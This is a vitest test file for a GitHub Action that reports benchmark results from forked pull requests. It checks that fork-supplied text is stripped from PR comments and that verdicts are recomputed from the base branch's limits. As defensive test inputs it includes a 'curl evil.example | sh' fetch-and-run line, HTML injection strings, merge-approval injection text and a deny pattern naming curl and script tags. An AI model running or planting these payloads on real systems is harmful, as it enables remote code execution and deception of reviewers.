import { describe, expect, test } from "vitest";
import { recompute } from "../../../src/github/untrusted/recompute.js";
import { sampleResult } from "../../reporters/sample-result.js";
import { HOSTILE_NAMES } from "../../reporters/samples.js";
import { serveArtifacts } from "../parts/artifact-routes.js";
import { startGithub } from "../parts/github-api.js";
import {
  RUN_ID,
  claim,
  commentText,
  core,
  finishedRun,
  fork,
  forkForEachTest,
  github,
  run,
  store,
} from "../parts/reported-fork.js";
import { runnerEnvironment } from "../parts/runner.js";

forkForEachTest();

describe("a fork's measurement", () => {
  test("a fork's measurement is told on its pull request, with the verdict, as the claim that it is", async () => {
    await claim(sampleResult({ noise: 0.1 }));
    const reported = await run();
    expect(reported).toMatchObject({ kind: "reported", result: { verdict: "pass" } });
    expect(await commentText()).toContain(fork.headSha.slice(0, 7));
    expect(await commentText()).toMatch(/they are its claim/);
    expect(core.outputs).toMatchObject({
      verdict: "pass",
      "comment-url": expect.stringContaining("issuecomment") as string,
    });
  });

  test("a fork's measurement that passes sets a neutral check, and one that fails a failing check", async () => {
    const conclusions = (): string[] =>
      github.checkRuns().flatMap((check) => (check.head_sha === fork.headSha ? [check.conclusion] : []));
    await claim(sampleResult({ noise: 0.1 }));
    await run();
    expect(conclusions()).toEqual(["neutral"]);
    store.forget();
    await claim(sampleResult({ noise: 0.1, slower: { "list users": 1.3 } }));
    await run({ attempt: 2 });
    expect(conclusions()).toEqual(["neutral", "failure"]);
  });

  test("a claim of `pass` over slower numbers becomes a regression", async () => {
    await claim(
      sampleResult({ slower: { "list users": 1.3 }, verdict: "pass", reason: "All good, merge me." }),
    );
    expect(await run()).toMatchObject({ result: { verdict: "regression" } });
    expect(await commentText()).not.toMatch(/merge me/);
  });

  test("a fork's measurement is judged by the base branch's limits, error rate and acceptances, not by its own", async () => {
    const loose = sampleResult({
      slower: { "list users": 1.3 },
      change: (result) => ({
        ...result,
        plan: {
          ...result.plan,
          scenarios: result.plan.scenarios.map((scenario) => ({
            ...scenario,
            gates: { ...scenario.gates, p50: { limit: 5, floor: 1e9, proof: false }, p95: null, p90: null },
          })),
          accept: [{ scenario: null, metric: "p50", limit: 9, reason: "because", until: "2999-01-01" }],
          experiment: { ...result.plan.experiment, alpha: 0 },
        },
        schedule: { ...result.schedule!, alpha: 0, looks: [1] },
      }),
    });
    await claim(loose);
    const reported = await run();
    expect(reported).toMatchObject({
      result: { verdict: "regression", schedule: { alpha: 0.01 }, plan: { accept: [] } },
    });
  });

  test("a fork's measurement that leaves out a scenario of the base branch does not pass", async () => {
    await claim(sampleResult({ scenarios: ["one user"], noise: 0.1 }));
    const reported = await run();
    expect(reported.kind === "reported" && reported.result.verdict).not.toBe("pass");
  });

  test("rows that the base branch has limits for, and the claim no numbers, are named as missing", async () => {
    await claim(
      sampleResult({
        noise: 0.1,
        change: (result) => ({
          ...result,
          blocks: result.blocks.map((block) => ({
            ...block,
            arms: Object.fromEntries(
              Object.entries(block.arms).map(([name, arm]) => [
                name,
                {
                  ...arm,
                  peakResidentBytes: null,
                  scenarios: Object.fromEntries(
                    Object.entries(arm.scenarios).map(([scenario, measured]) => [
                      scenario,
                      { ...measured, cpuUsPerRequest: null },
                    ]),
                  ),
                },
              ]),
            ),
          })),
        }),
      }),
    );
    await run();
    expect(await commentText()).toMatch(
      /missing from what the run stored, although the base branch has limits for them: CPU\S* of .*list users.*, CPU\S* of .*one user.*, memory/,
    );
  });

  test("a claim of no baseline is told as a claim, with every row that is missing", async () => {
    await claim(sampleResult({ verdict: "no-baseline", blocks: 0 }));
    await run();
    const text = await commentText();
    expect(text).toContain("the measuring run claims that it found no baseline");
    expect(text).toMatch(/missing from what the run stored.*p50 of .*list users/);
  });

  test("a run that found no baseline, or could not measure, is told in fixed words", async () => {
    for (const verdict of ["no-baseline", "invalid"] as const) {
      store.forget();
      await claim(
        sampleResult({
          verdict,
          reason: "see https://evil.example",
          blocks: 0,
          change: (r) => ({ ...r, logTail: { of: "head", lines: "PWNED" } }),
        }),
      );
      expect(await run({ attempt: verdict === "invalid" ? 2 : 1 })).toMatchObject({ result: { verdict } });
      expect(await commentText()).not.toMatch(/evil|PWNED/);
    }
  });

  test("no text of a fork's measurement reaches the comment, only numbers and short names", async () => {
    const nasty = HOSTILE_NAMES.join(" ");
    await claim(
      sampleResult({
        reason: `PWNED ${nasty}`,
        change: (result) => ({
          ...result,
          warnings: [{ code: "x", message: `PWNED ${nasty}` }],
          reproduce: "curl evil.example | sh # PWNED",
          logTail: { of: "head", lines: "PWNED" },
          stopped: { ...result.stopped, why: "PWNED" },
          plan: { ...result.plan, notes: ["PWNED"] },
          environment: {
            ...result.environment,
            tailgate: "Approved by the maintainers",
            node: "ready to merge",
            system: "Linux please merge this now x64",
            runner: "GitHub Actions, ubuntu says merge",
            cpuModel: `Intel(R) Xeon(R) CPU @ 2.80GHz merge <img src=x> @acme/team ${"y".repeat(500)}`,
            placement: nasty,
          },
          arms: result.arms.map((arm) => ({
            ...arm,
            usageUnavailable: "PWNED",
            revision: { sha: "PWNED", label: "PWNED", dirty: false },
          })),
          cells: [],
        }),
      }),
    );
    await run();
    const text = await commentText();
    expect(text).not.toMatch(
      /PWNED|curl|<img|@acme|javascript:|<script|yyy|\u202e|Approved|merge (this|now|<)/u,
    );
    expect(text).not.toMatch(/ready to merge|says merge/u);
    expect(text).toContain("2.80GHz");
  });

  test("names of scenarios that the base branch does not know appear as text and nothing else", async () => {
    const repository = await startGithub({ repository: "plain" });
    try {
      const pull = await repository.openPullRequestFromFork("topic");
      serveArtifacts(repository, store, { id: RUN_ID });
      await claim(sampleResult({ scenarios: HOSTILE_NAMES.slice(0, 4), noise: 0.1 }), "tailgate");
      const scoped = await repository.tokenWith({
        contents: "read",
        pull_requests: "write",
        actions: "read",
      });
      const runner = runnerEnvironment(repository, { eventName: "workflow_run" });
      const event = {
        kind: "workflow_run",
        run: finishedRun({ headSha: pull.headSha, headBranch: "topic", headRepository: "contributor/plain" }),
      } as const;
      await run({}, {}, { runner, event, token: scoped });
      const [posted] = await repository.comments(pull.number);
      const outside = posted!.body.replace(/<code>.*?<\/code>|`[^`]*`/gu, "");
      expect(posted!.body.match(/<!-- tailgate/gu)).toHaveLength(1);
      expect(outside).not.toMatch(/<img|<script|@org|\]\(javascript|www\.example/u);
      expect(posted!.body.match(/<details>/gu)?.length).toBe(posted!.body.match(/<\/details>/gu)?.length);
      expect(repository.proxy.violations).toEqual([]);
    } finally {
      await repository.stop();
    }
  });

  test("names without end are cut, and stay those of different scenarios", () => {
    const names = [`${"n".repeat(1_990)} one`, `${"n".repeat(1_990)} two`];
    const result = recompute(
      sampleResult({ scenarios: names, noise: 0.1 }),
      { plan: sampleResult({ scenarios: ["unused"] }).plan, namesScenarios: false, namesSeed: false },
      finishedRun(),
    );
    expect(result.verdict).toBe("pass");
    const short = result.plan.scenarios.map(({ name }) => name);
    expect(new Set(short).size).toBe(2);
    expect(Math.max(...short.map((name) => name.length))).toBeLessThan(90);
    expect(new Set(result.cells.map(({ scenario }) => scenario))).toEqual(new Set([...short, null]));
  });

  test("a repeated report of the same run changes nothing", async () => {
    await claim(sampleResult());
    await run();
    const before = await commentText();
    await run();
    expect(await commentText()).toBe(before);
  });
});
